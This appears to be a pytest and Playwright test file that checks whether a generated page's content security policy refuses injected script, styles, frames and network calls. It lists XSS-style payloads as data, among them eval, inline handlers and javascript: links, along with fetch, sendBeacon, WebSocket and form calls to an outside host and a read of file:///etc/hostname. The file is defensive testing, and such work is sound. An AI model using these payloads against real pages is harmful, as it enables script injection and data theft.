"""What the content security policy of a page refuses, tried in the browser as somebody would who got in."""

from pathlib import Path

import pytest
from playwright.sync_api import Page

from video_analytics_tests.pages import sample
from video_analytics_tests.pages.conftest import Visit

OUTSIDE = "https://example.org"
HAVE = "const { body } = document; const create = (name) => document.createElement(name);"
OUT = f"made.href = made.src = made.data = made.action = '{OUTSIDE}/x'; body.append(made);"
ATTEMPTS = {
    "script-src-elem": [
        "const made = create('script'); made.textContent = 'pwned = 1'; body.append(made);",
        f"const made = create('script'); {OUT}",
        f"import('{OUTSIDE}/x.js').catch(() => 0);",
        "const made = create('a'); made.href = 'javascript:pwned=1'; body.append(made); made.click();",
    ],
    "script-src-attr": [
        "body.insertAdjacentHTML('beforeend', '<b onclick=window.pwned=1>x</b>'); body.lastChild.click();",
        "body.setAttribute('onclick', 'window.pwned = 1'); body.click();",
    ],
    "script-src": [
        "try { eval('window.pwned = 1'); } catch {}",
        "try { new Function('window.pwned = 1')(); } catch {}",
    ],
    "style-src-elem": ["const made = create('style'); made.textContent = '*{}'; body.append(made);"],
    "style-src-attr": ["body.setAttribute('style', 'display: none');"],
    "img-src": [f"new Image().src = '{OUTSIDE}/x.png';", "new Image().src = 'data:image/gif;base64,R0';"],
    "connect-src": [
        f"fetch('{OUTSIDE}/').catch(() => 0);",
        "fetch('file:///etc/hostname').catch(() => 0);",
        f"navigator.sendBeacon('{OUTSIDE}/', 'x');",
        "try { new WebSocket('wss://example.org'); } catch {}",
    ],
    "form-action": [f"const made = create('form'); {OUT} made.submit();"],
    "base-uri": ["const made = create('base'); made.href = 'https://example.org/'; body.append(made);"],
    "frame-src": [f"const made = create('iframe'); {OUT}"],
    "object-src": [f"const made = create('object'); {OUT}"],
    "font-src": [f"new FontFace('x', 'url({OUTSIDE}/x.woff)').load().catch(() => 0);"],
    "media-src": [f"new Audio('{OUTSIDE}/x.ogg');"],
    "worker-src": ["new Worker(URL.createObjectURL(new Blob(['1'])));"],
}  # fmt: skip
REFUSED = """() => new Promise((done) => {
  const end = Date.now() + 20000;
  const look = () => refused.length || Date.now() > end ? done() : setTimeout(look, 20);
  look();
})"""
LISTEN = """() => {
  window.refused = [];
  document.addEventListener("securitypolicyviolation", (event) => refused.push(event.effectiveDirective));
}"""


def answers(page: Page) -> list[str]:
    """The addresses that anything comes from, from now on."""
    heard: list[str] = []
    page.on("response", lambda response: heard.append(response.url))
    return heard


FIRST = (
    "script-src",
    "connect-src",
    "form-action",
)  # of the refusals; the others are tried with the slow tests


@pytest.mark.parametrize(
    "directive", [each if each in FIRST else pytest.param(each, marks=pytest.mark.slow) for each in ATTEMPTS]
)
def test_the_policy_refuses(visit: Visit, library: str, tmp_path: Path, directive: str) -> None:
    path = sample.written(sample.page([sample.figure(chart=None)]), library, tmp_path)
    for attempt in ATTEMPTS[directive]:
        page = visit(path, watched=False)
        sent = answers(page)
        page.evaluate(LISTEN)
        # in a task of the page's own: what the debugger evaluates may do more
        page.evaluate(f"() => {{ setTimeout(() => {{ {HAVE} {attempt} }}); }}")
        page.evaluate(REFUSED)
        assert set(page.evaluate("refused")) == {directive}, attempt
        assert page.evaluate("window.pwned") is None
        assert page.url == path.as_uri()
        assert sent == []
